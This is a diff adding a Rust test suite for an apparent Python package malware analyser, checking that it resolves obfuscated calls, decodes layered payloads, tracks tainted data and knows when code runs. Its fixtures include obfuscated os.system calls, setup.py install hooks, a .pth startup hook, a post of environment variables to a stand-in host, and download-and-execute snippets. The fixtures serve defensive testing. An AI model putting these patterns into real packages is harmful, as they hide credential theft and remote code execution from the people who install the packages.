@@ -1,0 +1,218 @@
+//! What the analysis must see, on whole small packages.
+#![expect(clippy::unwrap_used, reason = "tests fail by panicking")]
+
+use fondaco_python::{
+    Analysis, Api, Budget, Call, Encoder, Language, Role, SourceFile, Syntax, Taint, analyse,
+};
+use fondaco_verdict::Trigger;
+
+fn package(files: &[(&str, &str, Role)]) -> Analysis {
+    let paths: Vec<_> = files.iter().map(|(path, ..)| path.parse().unwrap()).collect();
+    let modules: Vec<String> = files
+        .iter()
+        .map(|(path, ..)| path.trim_end_matches(".py").trim_end_matches("/__init__").replace('/', "."))
+        .collect();
+    let sources: Vec<_> = files
+        .iter()
+        .zip(paths.iter().zip(&modules))
+        .map(|((_, text, role), (path, module))| SourceFile {
+            path,
+            bytes: text.as_bytes(),
+            role: *role,
+            module,
+        })
+        .collect();
+    analyse(&sources, &["pkg.cli:main".to_owned()], &Budget::default())
+}
+
+fn setup(text: &str) -> Analysis {
+    package(&[("setup.py", text, Role::Setup)])
+}
+
+fn calls(analysis: &Analysis) -> Vec<&Call> {
+    analysis.units.iter().flat_map(|unit| &unit.calls).collect()
+}
+
+#[track_caller]
+fn call<'a>(analysis: &'a Analysis, callee: &str) -> &'a Call {
+    let found = calls(analysis).into_iter().find(|call| call.callee == callee);
+    found.unwrap_or_else(|| panic!("no call of {callee} in {:#?}", calls(analysis)))
+}
+
+/// The callee of the only call with this text argument.
+#[track_caller]
+fn runs(text: &str, callee: &str, argument: &str) {
+    let analysis = setup(text);
+    let call = call(&analysis, callee);
+    assert!(call.texts().contains(&argument), "{text}: {:?}", call.texts());
+}
+
+#[test]
+fn names_are_resolved_however_they_are_written() {
+    runs("import os as o\no.system('id')", "os.system", "id");
+    runs("from os import system as s\nt = s\nt('id')", "os.system", "id");
+    runs("__import__('o' + 's').system('id')", "os.system", "id");
+    runs("getattr(__import__('os'), 'metsys'[::-1])('id')", "os.system", "id");
+    runs("import sys, os\nsys.modules['os'].system('id')", "os.system", "id");
+    runs("import importlib\nimportlib.import_module('subprocess').run('id')", "subprocess.run", "id");
+    runs("__builtins__.__dict__['ev' + 'al']('a' + 'b')", "builtins.eval", "ab");
+    let hidden = setup("import os\ngetattr(os, 'sys' + 'tem')('id')");
+    assert!(call(&hidden, "os.system").hidden);
+}
+
+#[test]
+fn text_is_folded() {
+    for code in [
+        "'i' + 'd'",
+        "''.join(['i', 'd'])",
+        "'di'[::-1]",
+        "chr(105) + chr(100)",
+        "''.join(map(chr, [105, 100]))",
+        "''.join(chr(c ^ 1) for c in [104, 101])",
+        "bytes([105, 100]).decode()",
+        "'%s%s' % ('i', 'd')",
+        "'{}{}'.format('i', 'd')",
+        "f'i{\"d\"}'",
+        "__import__('base64').b64decode('aWQ=').decode()",
+        "bytes.fromhex('6964').decode()",
+        "__import__('codecs').decode('vq', 'rot13')",
+        "(lambda s: s[::-1])('di')",
+        "'xixd'.replace('x', '')",
+        "['a', 'id'][1]",
+    ] {
+        runs(&format!("import os\nos.system({code})"), "os.system", "id");
+    }
+}
+
+#[test]
+fn a_decoder_written_as_a_function_is_followed() {
+    runs(
+        "import os\ndef d(s):\n  out = ''\n  for c in s:\n    out += chr(ord(c) - 1)\n  return out\nos.system(d('je'))",
+        "os.system",
+        "id",
+    );
+}
+
+#[test]
+fn decoded_code_is_the_next_layer() {
+    // base64 of: import os;os.system('id')
+    let analysis = setup("import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))");
+    let layer = analysis.units.iter().find(|unit| unit.layer == 1).unwrap();
+    assert_eq!((layer.language, layer.encoders.as_slice()), (Language::Python, &[Encoder::Base64][..]));
+    let inner = call(&analysis, "os.system");
+    assert_eq!(
+        (inner.trigger, inner.reach.as_slice()),
+        (Some(Trigger::Install), &["setup.py:2".to_owned()][..])
+    );
+    assert!(call(&analysis, "builtins.exec").taint().has(Taint::DECODED));
+    let nested = setup("exec(\"exec(\\\"import os;os.system('id')\\\")\")");
+    assert_eq!(nested.units.iter().map(|unit| unit.layer).max(), Some(2));
+}
+
+#[test]
+fn commands_carry_code() {
+    let analysis =
+        setup("import os\nos.system('powershell -enc ZQBjAGgAbwAgAGgAZQBsAGwAbwAgAHQAaABlAHIAZQA=')");
+    let layer = analysis.units.iter().find(|unit| unit.layer == 1).unwrap();
+    assert_eq!((layer.language, &*layer.text), (Language::PowerShell, "echo hello there"));
+    let analysis = setup(
+        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import os;os.system(\"id\")'])",
+    );
+    assert!(calls(&analysis).iter().any(|c| c.callee == "os.system"));
+}
+
+#[test]
+fn values_remember_where_they_come_from() {
+    let analysis = setup(
+        "import os, socket, requests\ndef facts():\n  return {'h': socket.gethostname(), 'e': dict(os.environ)}\n\
+         requests.post('https://x.example.invalid', json=facts())",
+    );
+    let taint = call(&analysis, "requests.post").taint();
+    assert!(taint.has(Taint::HOST) && taint.has(Taint::ENVIRONMENT), "{taint:?}");
+    let analysis = setup("import requests\nr = requests.get('https://x.example.invalid')\nexec(r.text)");
+    assert!(call(&analysis, "builtins.exec").taint().has(Taint::NETWORK));
+    let analysis = setup(
+        "import os, urllib.request as u\nwith open('/tmp/a.sh', 'wb') as f:\n  f.write(u.urlopen('http://x.example.invalid').read())\n\
+         os.system('/tmp/a.sh')",
+    );
+    assert!(call(&analysis, "os.system").taint().has(Taint::WRITTEN));
+    let write = calls(&analysis).into_iter().find(|c| c.api == Some(Api::FileWrite)).unwrap().clone();
+    assert!(write.taint().has(Taint::NETWORK));
+}
+
+#[test]
+fn what_runs_when() {
+    let hook = setup(
+        "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n\
+         class I(install):\n  def run(self):\n    os.system('id')\nsetup(cmdclass={'install': I})",
+    );
+    assert_eq!(call(&hook, "os.system").trigger, Some(Trigger::Install));
+    let modules = package(&[
+        ("pkg/__init__.py", "from .core import go\ngo()\n", Role::Module),
+        (
+            "pkg/core.py",
+            "import os\ndef go():\n  os.system('id')\ndef idle():\n  os.popen('x')\n",
+            Role::Module,
+        ),
+        ("pkg/cli.py", "import subprocess\ndef main():\n  subprocess.run('ls')\n", Role::Module),
+        ("tests/t.py", "import os\nos.execv('a', [])\n", Role::Other),
+    ]);
+    let reached = call(&modules, "os.system");
+    assert_eq!((reached.trigger, reached.reach.len()), (Some(Trigger::Import), 1));
+    assert_eq!(call(&modules, "os.popen").trigger, Some(Trigger::Call));
+    assert_eq!(call(&modules, "subprocess.run").trigger, Some(Trigger::EntryPoint));
+    assert_eq!(call(&modules, "os.execv").trigger, None);
+    let threaded = package(&[(
+        "pkg/__init__.py",
+        "import threading, os\ndef f():\n  os.system('id')\nthreading.Thread(target=f).start()\n",
+        Role::Module,
+    )]);
+    assert_eq!(call(&threaded, "os.system").trigger, Some(Trigger::Import));
+    let start = package(&[("x.pth", "pkg\nimport os; os.system('id')\n", Role::Startup)]);
+    assert_eq!(call(&start, "os.system").trigger, Some(Trigger::Startup));
+}
+
+#[test]
+fn a_module_imported_by_setup_runs_on_install() {
+    let analysis = package(&[
+        ("setup.py", "import pkg.evil\n", Role::Setup),
+        ("pkg/evil.py", "import os\nos.system('id')\n", Role::Module),
+    ]);
+    assert_eq!(call(&analysis, "os.system").trigger, Some(Trigger::Install));
+}
+
+#[test]
+fn what_does_not_parse_is_read_as_tokens_and_says_so() {
+    let analysis = setup("print 'hello'\nimport os\nos.system('id')\n");
+    assert!(matches!(analysis.units[0].syntax, Syntax::TokensOnly { .. }));
+    assert_eq!(call(&analysis, "os.system").texts(), ["id"]);
+    let bomb = setup(&format!("import os\nos.system('id')\nx={}1", "-".repeat(100_000)));
+    assert!(matches!(bomb.units[0].syntax, Syntax::TokensOnly { .. }));
+    let strange = setup("# coding: utf-7\nx = 1\n");
+    assert_eq!(strange.unscanned.len(), 1);
+}
+
+#[test]
+fn budgets_end_the_work_and_are_reported() {
+    let looped = setup("x = ''\nfor a in range(9000):\n  for b in range(9000):\n    x = x\n");
+    assert_eq!(looped.unscanned.len(), 1, "{:?}", looped.unscanned);
+}
+
+#[test]
+fn mutated_source_never_panics() {
+    let seed = "import os, base64 as b\nclass A(install):\n  def run(self, *a, k=1):\n    exec(b.b64decode('aW1wb3J0IG9z'))\n\
+                for x in [1, 2]:\n  y = f'{x!r:>{x}}' + '%s' % x\nz = [chr(i) for i in range(9) if i]\n";
+    let mut state = 7u64;
+    let mut random = move || {
+        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
+        (state >> 33) as usize
+    };
+    for _ in 0..4000 {
+        let mut bytes = seed.as_bytes().to_vec();
+        for _ in 0..=random() % 4 {
+            let at = random() % bytes.len();
+            bytes[at] = b"()[]{}'\"\n :=.,+-*%\\x0"[random() % 21];
+        }
+        setup(&String::from_utf8_lossy(&bytes));
+    }
+}
